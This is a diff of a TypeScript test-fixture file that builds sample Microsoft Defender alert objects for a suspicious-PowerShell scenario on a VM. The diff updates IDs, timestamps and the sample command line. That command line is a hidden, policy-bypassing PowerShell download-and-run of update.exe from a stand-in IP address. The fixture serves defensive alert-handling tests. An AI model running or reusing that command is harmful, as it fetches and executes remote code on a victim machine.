@@ -1,21 +1,22 @@
 /**
  * Hand-built Alert objects for tests: `makeAlert(overrides)` for any alert, `flagshipAlert()` for the
- * PowerShell alert of DESIGN.md's flagship scenario (web-vm-01, local account svc-backup, no Entra ID).
+ * PowerShell alert of DESIGN.md's flagship scenario (web-vm-01, local account svc-backup, no Entra ID),
+ * with the values of demo/alerts/flagship-2-suspicious-powershell.export.json.
  * Shared: other engineers' tests may use these.
  */
 import type { Alert } from '../../src/domain/alert';
 
 export const FLAGSHIP = {
-  subscriptionId: '00000000-0000-4000-8000-000000000001',
+  subscriptionId: '3f2b8c1e-7a4d-4e9b-9c21-5d6e8f0a1b2c',
   resourceGroup: 'rg-prod-web',
   vm: 'web-vm-01',
-  workspaceId: '11111111-2222-4333-8444-555555555555',
+  workspaceId: '8c1d2e3f-4a5b-4c6d-9e7f-0a1b2c3d4e5f',
   account: 'svc-backup',
   bruteForceIp: '198.51.100.23',
   downloadIp: '203.0.113.45',
   downloadUrl: 'http://203.0.113.45/update.exe',
   commandLine:
-    'powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -Command "(New-Object Net.WebClient).DownloadFile(\'http://203.0.113.45/update.exe\', \'C:\\Users\\Public\\update.exe\')"',
+    'powershell.exe -ExecutionPolicy Bypass -NoProfile -WindowStyle Hidden -Command "(New-Object Net.WebClient).DownloadFile(\'http://203.0.113.45/update.exe\',\'C:\\Users\\Public\\update.exe\'); Start-Process C:\\Users\\Public\\update.exe"',
 } as const;
 
 const vmResourceId = `/subscriptions/${FLAGSHIP.subscriptionId}/resourceGroups/${FLAGSHIP.resourceGroup}/providers/Microsoft.Compute/virtualMachines/${FLAGSHIP.vm}`;
@@ -27,8 +28,8 @@ export function makeAlert(overrides: Partial<Alert> = {}): Alert {
     displayName: 'Test alert',
     severity: 'Medium',
     status: 'Active',
-    startTime: '2026-11-27T02:16:00.000Z',
-    endTime: '2026-11-27T02:16:00.000Z',
+    startTime: '2026-11-26T02:16:04.000Z',
+    endTime: '2026-11-26T02:16:04.000Z',
     generatedTime: '2026-11-27T02:17:00.000Z',
     description: 'A test alert.',
     tactics: [],
@@ -50,16 +51,16 @@ export function makeAlert(overrides: Partial<Alert> = {}): Alert {
 /** The flagship PowerShell alert: suspicious download by the local account svc-backup on web-vm-01. */
 export function flagshipAlert(overrides: Partial<Alert> = {}): Alert {
   return makeAlert({
-    systemAlertId: '2517538088322968242_flagship-powershell',
-    armId: `/subscriptions/${FLAGSHIP.subscriptionId}/resourceGroups/${FLAGSHIP.resourceGroup}/providers/Microsoft.Security/locations/westeurope/alerts/2517538088322968242_flagship-powershell`,
+    systemAlertId: '2516066414359999999_c3a9e1d4-6b27-4f85-a0d2-7e4b9c1f5a63',
+    armId: `/subscriptions/${FLAGSHIP.subscriptionId}/resourceGroups/${FLAGSHIP.resourceGroup}/providers/Microsoft.Security/locations/westeurope/alerts/2516066414359999999_c3a9e1d4-6b27-4f85-a0d2-7e4b9c1f5a63`,
     location: 'westeurope',
-    alertType: 'VM_SuspiciousPowerShellDownload',
-    displayName: 'Suspicious PowerShell command downloading a file from an IP address',
+    alertType: 'VM_SuspiciousPowerShellCommandLine',
+    displayName: 'Suspicious PowerShell command line',
     severity: 'Medium',
     status: 'Active',
-    startTime: '2026-11-27T02:16:00.000Z',
-    endTime: '2026-11-27T02:16:30.000Z',
-    generatedTime: '2026-11-27T02:17:10.000Z',
+    startTime: '2026-11-26T02:16:04.000Z',
+    endTime: '2026-11-26T02:16:04.000Z',
+    generatedTime: '2026-11-26T02:16:41.000Z',
     description:
       'A PowerShell command on web-vm-01 bypassed the execution policy and downloaded a file from http://203.0.113.45/update.exe. Attackers use this to stage tools after gaining access.',
     tactics: ['Execution', 'CommandAndControl'],
@@ -67,13 +68,13 @@ export function flagshipAlert(overrides: Partial<Alert> = {}): Alert {
     subTechniques: ['T1059.001'],
     remediationSteps: ['Review the command line and the account that ran it.', 'Isolate the VM if the download is malicious.'],
     extendedProperties: { 'Suspicious process': 'powershell.exe', 'Account': `${FLAGSHIP.vm.toUpperCase()}\\${FLAGSHIP.account}` },
-    portalUrl: 'https://portal.azure.com/#blade/Microsoft_Azure_Security/AlertBlade/alertId/2517538088322968242_flagship-powershell',
+    portalUrl: 'https://portal.azure.com/#blade/Microsoft_Azure_Security/AlertBlade/alertId/2516066414359999999_c3a9e1d4-6b27-4f85-a0d2-7e4b9c1f5a63',
     links: [],
     subscriptionId: FLAGSHIP.subscriptionId,
     resourceGroup: FLAGSHIP.resourceGroup,
     resourceId: vmResourceId,
     resourceName: FLAGSHIP.vm,
-    workspace: { workspaceId: FLAGSHIP.workspaceId, subscriptionId: FLAGSHIP.subscriptionId, resourceGroup: FLAGSHIP.resourceGroup },
+    workspace: { workspaceId: FLAGSHIP.workspaceId, subscriptionId: FLAGSHIP.subscriptionId, resourceGroup: 'rg-soc-monitoring' },
     compromisedEntity: FLAGSHIP.vm,
     productName: 'Microsoft Defender for Cloud',
     vendorName: 'Microsoft',
@@ -98,7 +99,7 @@ export function flagshipAlert(overrides: Partial<Alert> = {}): Alert {
         commandLine: FLAGSHIP.commandLine,
         imageFile: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
         accountName: FLAGSHIP.account,
-        creationTimeUtc: '2026-11-27T02:16:00.000Z',
+        creationTimeUtc: '2026-11-26T02:16:04.000Z',
       },
       { kind: 'ip', address: FLAGSHIP.downloadIp },
       { kind: 'url', url: FLAGSHIP.downloadUrl },
